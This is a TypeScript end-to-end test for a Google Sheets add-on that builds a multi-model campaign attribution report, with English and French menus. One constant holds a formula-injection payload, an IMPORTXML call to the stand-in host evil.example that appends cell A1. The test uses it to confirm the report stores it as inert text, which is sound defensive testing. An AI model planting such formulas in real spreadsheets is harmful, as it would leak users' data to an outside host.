/**
 * End to end through the REAL dist/Code.js (run `npm run build` first), the way Apps Script runs
 * it: the sidebar's buildInfluenceReport and the menu's buildInfluenceReportFromMenu on
 * examples/touches.csv, plus a campaign whose name is a formula.
 */
import { existsSync } from 'fs';
import path from 'path';
import type { CellValue } from '../../src/core/types';
import { createAppsScript } from '@cadence/apps-script-fake';
import { DIST, loadAddOn } from '../../src/local/code-runtime';
import { readWorkbook } from '../../src/local/files/read-grid';
import { creditHeaderRow } from './influence-rows';

const TOUCHES_CSV = path.resolve(__dirname, '../../examples/touches.csv');
const EVIL = '=IMPORTXML("http://evil.example/?"&A1,"//x")';

let csvRows: CellValue[][];
beforeAll(async () => {
  if (!existsSync(path.join(DIST, 'Code.js'))) throw new Error('run `npm run build` first');
  [{ rows: csvRows }] = await readWorkbook(TOUCHES_CSV, 'Europe/Paris');
});

function setUp(locale: string) {
  const env = createAppsScript({ timeZone: 'Europe/Paris', locale });
  env.spreadsheet.addSheetFromGrid('Touches', [
    ...csvRows,
    ['P99999', EVIL, 'Web', '2026-03-01 10:00', '2026-03-02 10:00', '1000', '', ''],
    ['P99998', '-1', 'Web', '2026-03-01 10:00', '2026-03-02 10:00', '', '', ''],
  ]);
  return { env, addOn: loadAddOn(env) };
}

describe('dist/Code.js buildInfluenceReport', () => {
  test('writes the report sheet, one bar chart, and the campaign names as text', () => {
    const { env, addOn } = setUp('en');
    const result = addOn.call('buildInfluenceReport') as { ok: boolean; message: string };
    expect(result.ok).toBe(true);
    expect(result.message).toMatch(/^Influence report rebuilt from “Touches”: \d+ campaigns/);

    const sheet = env.spreadsheet.sheet('Influence report');
    const values = sheet.getDataRange().getValues();
    const HEADER_ROW = creditHeaderRow(values);
    expect(values[HEADER_ROW - 1][0]).toBe('Campaign');
    const names = values.slice(HEADER_ROW).map((r) => r[0]);
    expect(names).toContain(EVIL);
    expect(names).toContain('-1');
    expect(
      sheet
        .getDataRange()
        .getFormulas()
        .flat()
        .every((f) => f === ''),
    ).toBe(true);

    // The prospect who converted through EVIL alone gives it 1 conversion under every
    // journey-by-journey model (first touch … time decay, Shapley); Markov shares all conversions
    // by removal effect, so it is not 1 there.
    const evilRow = values.find((r) => r[0] === EVIL) as CellValue[];
    expect(evilRow.slice(1, 8)).toEqual([1, 1, 1, 1, 1, 1, 1]);
    expect(values[HEADER_ROW - 1][9]).toBe('Shapley');
    expect(evilRow[9]).toBe(1);

    expect(addOn.call('buildInfluenceReport')).toMatchObject({ ok: true });
    const charts = sheet.getCharts();
    expect(charts).toHaveLength(1);
    expect(charts[0].getType()).toBe('BAR');
    expect(charts[0].getRanges()[0].getNumColumns()).toBe(10); // Campaign + 9 models
    expect(sheet.getProtections(env.globals.SpreadsheetApp.ProtectionType.SHEET)).toHaveLength(1);
    expect(env.spreadsheet.getActiveSheet().getName()).toBe('Influence report');
  });

  test('from the French menu: a toast in French, the caveats in French', () => {
    const { env, addOn } = setUp('fr');
    addOn.call('buildInfluenceReportFromMenu');
    expect(env.ui.toasts).toHaveLength(1);
    expect(env.ui.toasts[0].message).toMatch(
      /^Rapport d’influence reconstruit à partir de « Touches »/,
    );
    const firstColumn = env.spreadsheet
      .sheet('Rapport d’influence')
      .getDataRange()
      .getValues()
      .map((r) => String(r[0]));
    expect(firstColumn).toContain('Ce qu’aucun modèle ne peut prouver');
    expect(firstColumn.some((t) => /le même jour/.test(t))).toBe(true);
  });
});
